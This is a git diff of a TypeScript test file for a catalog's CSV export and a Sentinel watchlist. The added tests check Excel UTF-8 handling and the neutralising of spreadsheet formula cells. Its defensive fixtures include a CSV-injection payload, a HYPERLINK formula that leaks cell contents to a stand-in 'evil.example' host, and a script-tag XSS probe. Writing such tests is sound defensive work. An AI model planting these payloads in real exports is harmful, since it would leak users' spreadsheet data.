@@ -2,12 +2,12 @@
 import { readFileSync } from 'node:fs';
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
-import { codeDetail, codeSources, codeSummary, csvRow } from '../../src/lib/publish/api.ts';
+import { codeDetail, codeSources, codeSummary, csvRow, watchlistRow } from '../../src/lib/publish/api.ts';
 import { parseCatalog } from '../../src/lib/catalog/catalog-file.ts';
 import type { Catalog, CodeListing } from '../../src/lib/catalog/catalog.ts';
-import { toCsv } from '../../src/lib/publish/csv.ts';
+import { neutraliseCell, toCsv, UTF8_BOM } from '../../src/lib/publish/csv.ts';
 import { listing } from '../../src/lib/catalog/listing.ts';
-import { CodeDetailSchema, CodeSummarySchema, CSV_COLUMNS } from '../../src/schemas/api.ts';
+import { CodeDetailSchema, CodeSummarySchema, CSV_COLUMNS, WATCHLIST_COLUMNS } from '../../src/schemas/api.ts';
 
 const site = new URL('https://atlas.test/');
 const { rows, problems } = parseCatalog(readFileSync('tests/fixtures/hostile/catalog.tsv', 'utf8'));
@@ -152,8 +152,8 @@ describe('codeDetail', () => {
 });
 
 describe('the CSV', () => {
-  const csv = toCsv(CSV_COLUMNS, listings.map((entry) => csvRow(codeSummary(entry, site))));
-  const read = () => parse(csv, { record_delimiter: '\r\n' }) as string[][];
+  const csv = toCsv(CSV_COLUMNS, listings.map((entry) => csvRow(codeSummary(entry, site))), { bom: true });
+  const read = () => parse(csv, { record_delimiter: '\r\n', bom: true }) as string[][];
 
   it('reads back through a CSV parser as exactly the fields written, one record per code', () => {
     const records = read();
@@ -161,7 +161,7 @@ describe('the CSV', () => {
     expect(records.slice(1)).toEqual(
       listings.map((entry) => {
         const summary = codeSummary(entry, site);
-        return [String(summary.code), summary.name ?? '', summary.title, summary.message, summary.category ?? '', summary.signal ?? '', String(summary.guide), summary.url];
+        return [String(summary.code), summary.name ?? '', summary.title, summary.message, summary.category ?? '', summary.signal ?? '', String(summary.guide), summary.url, summary.confidence ?? ''];
       }),
     );
     // The guide's title and message hold a line break, quotes and commas; the parser must see them inside one field.
@@ -173,6 +173,50 @@ describe('the CSV', () => {
   });
 
   it('writes the columns in the declared order, the guide flag as text', () => {
-    expect(csvRow(codeSummary(byCode(90003), site))).toEqual([90003, null, '<script>alert(1)</script> & <b>bold</b>', '<script>alert(1)</script> & <b>bold</b>', 'service', 'benign', 'false', 'https://atlas.test/codes/90003/']);
+    expect(csvRow(codeSummary(byCode(90003), site))).toEqual([90003, null, '<script>alert(1)</script> & <b>bold</b>', '<script>alert(1)</script> & <b>bold</b>', 'service', 'benign', 'false', 'https://atlas.test/codes/90003/', 'sure']);
+  });
+
+  it('opens in Excel with its non-ASCII letters intact', () => {
+    // Excel reads a CSV as UTF-8 only when it starts with a byte-order mark; otherwise in the legacy code page.
+    const bytes = new TextEncoder().encode(csv);
+    const excel = (data: Uint8Array) => (data[0] === 0xef && data[1] === 0xbb && data[2] === 0xbf ? new TextDecoder('utf-8').decode(data) : new TextDecoder('windows-1252').decode(data));
+    const opened = parse(excel(bytes), { record_delimiter: '\r\n' }) as string[][];
+    expect(opened[0][0]).toBe('code');
+    expect(opened.find((record) => record[0] === '90002')![2]).toBe('La connexion a échoué : « accès refusé », 認証に失敗しました — try again, "later"');
+    expect(csv.startsWith(UTF8_BOM)).toBe(true);
+  });
+});
+
+describe('CSV cells a spreadsheet would evaluate', () => {
+  const FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A2,"Click")', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1', '=1\n=2'];
+
+  it.each(FORMULAS)('neutralises %j with a leading quote, and reads back as written otherwise', (formula) => {
+    const text = toCsv(['title'], [[formula]]);
+    expect(text).toBe(`"title"\r\n"'${formula.replace(/"/g, '""')}"\r\n`);
+    const [, [cell]] = parse(text, { record_delimiter: '\r\n' }) as string[][];
+    expect(cell).toBe(`'${formula}`);
+  });
+
+  it('leaves every other cell as it is, including a formula sign later in the text and negative-looking numbers', () => {
+    for (const text of ['Sign-in = failed', ' =1', "'already quoted", 'AADSTS50126', '']) expect(neutraliseCell(text)).toBe(text);
+    expect(neutraliseCell(50126)).toBe('50126');
+    expect(neutraliseCell(null)).toBe('');
+  });
+
+  it('neutralises a hostile title in the published rows', () => {
+    const hostile = { ...guide, data: { ...guide.data, title: '=HYPERLINK("https://evil.example/?leak="&A2,"Open")' } };
+    const summary = codeSummary(listing(rows[0], hostile as never) as CodeListing, site);
+    const [, record] = parse(toCsv(CSV_COLUMNS, [csvRow(summary)]), { record_delimiter: '\r\n' }) as string[][];
+    expect(record[2]).toBe(`'${hostile.data.title}`);
+  });
+});
+
+describe('the Sentinel watchlist', () => {
+  it('has one row per code with the code first, to be chosen as the SearchKey', () => {
+    const text = toCsv(WATCHLIST_COLUMNS, listings.map((entry) => watchlistRow(codeSummary(entry, site))));
+    const records = parse(text, { record_delimiter: '\r\n' }) as string[][];
+    expect(records[0]).toEqual(['Code', 'Name', 'Title', 'Category', 'Signal', 'Confidence', 'Url']);
+    expect(records[3]).toEqual(['90003', '', '<script>alert(1)</script> & <b>bold</b>', 'service', 'benign', 'sure', 'https://atlas.test/codes/90003/']);
+    expect(records.slice(1).map((record) => record[0])).toEqual(['90001', '90002', '90003']);
   });
 });
